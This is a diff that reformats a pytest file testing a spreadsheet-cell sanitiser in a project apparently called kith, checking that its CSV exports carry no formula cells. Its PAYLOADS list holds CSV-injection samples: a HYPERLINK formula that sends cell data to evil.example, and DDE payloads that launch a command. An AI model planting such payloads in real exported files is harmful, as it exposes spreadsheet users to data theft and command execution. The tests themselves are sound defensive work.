@@ -24,8 +24,14 @@ from kith.ingest.report import write_quarantine
 from kith.settings import KithSettings
 from kith.trust.spreadsheet import FORMULA_STARTS, safe_cell
 
-PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"help")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "\tTab Center", "\rCR Center")
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"help")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tTab Center",
+    "\rCR Center",
+)
 
 
 def _unsafe(cells: list[list[str]]) -> list[str]:
@@ -33,11 +39,26 @@ def _unsafe(cells: list[list[str]]) -> list[str]:
     return [c for row in cells for c in row if c.startswith(FORMULA_STARTS) and safe_cell(c) != c]
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=1+1", "'=1+1"), ("+1", "'+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\rx", "'\rx"),
-    ("-1+1", "'-1+1"), ("-71.0843", "-71.0843"), ("-1e3", "-1e3"), ("-", "'-"), ("Food Bank", "Food Bank"),
-    ("", ""), (None, None), (-3, -3), (2.5, 2.5), ("a=b", "a=b"),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\rx", "'\rx"),
+        ("-1+1", "'-1+1"),
+        ("-71.0843", "-71.0843"),
+        ("-1e3", "-1e3"),
+        ("-", "'-"),
+        ("Food Bank", "Food Bank"),
+        ("", ""),
+        (None, None),
+        (-3, -3),
+        (2.5, 2.5),
+        ("a=b", "a=b"),
+    ],
+)
 def test_a_cell_that_opens_a_formula_is_quoted(value: object, expected: object) -> None:
     assert safe_cell(value) == expected
 
@@ -65,20 +86,25 @@ def evil(small_city: demo_city.City, tmp_path_factory: pytest.TempPathFactory) -
 
 def _cli_csv(home: Path, *args: str) -> list[list[str]]:
     result = CliRunner(env={"KITH_HOME": str(home), "KITH_NEO4J_URI": ""}).invoke(
-        cli, [*args, "--format", "csv"], catch_exceptions=False)
+        cli, [*args, "--format", "csv"], catch_exceptions=False
+    )
     assert result.exit_code == 0, result.output
     cells = list(csv.reader(io.StringIO(result.stdout)))
     assert len(cells) > 1, result.stdout
     return cells
 
 
-@pytest.mark.parametrize("args", [
-    ("nearby", "--near", "42.35,-71.06", "--radius-km", "50", "--limit", "60"),
-    ("gaps", "--need", "food", "--by", "school"),
-    ("deserts", "--need", "food", "--by", "school", "--rule", "percentile", "--threshold", "90"),
-    ("network",),
-    ("network", "--section", "suggestions"),
-], ids=lambda a: "-".join(a[:3]))
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("nearby", "--near", "42.35,-71.06", "--radius-km", "50", "--limit", "60"),
+        ("gaps", "--need", "food", "--by", "school"),
+        ("deserts", "--need", "food", "--by", "school", "--rule", "percentile", "--threshold", "90"),
+        ("network",),
+        ("network", "--section", "suggestions"),
+    ],
+    ids=lambda a: "-".join(a[:3]),
+)
 def test_cli_csv_has_no_formula_cells(evil: tuple[Path, KithSettings], args: tuple[str, ...]) -> None:
     cells = _cli_csv(evil[0], *args)
     assert not _unsafe(cells)
@@ -93,8 +119,9 @@ def test_path_csv_has_no_formula_cells(evil: tuple[Path, KithSettings], small_ci
 
 
 def test_quarantine_file_has_no_formula_cells(tmp_path: Path) -> None:
-    path = write_quarantine(tmp_path, "agencies", [("=cmd.csv", "2", "@name", "-is required"),
-                                                   ("a.csv", "3", "+x", "\tlong")])
+    path = write_quarantine(
+        tmp_path, "agencies", [("=cmd.csv", "2", "@name", "-is required"), ("a.csv", "3", "+x", "\tlong")]
+    )
     assert path is not None
     cells = list(csv.reader(path.open(encoding="utf-8", newline="")))
     assert not _unsafe(cells)
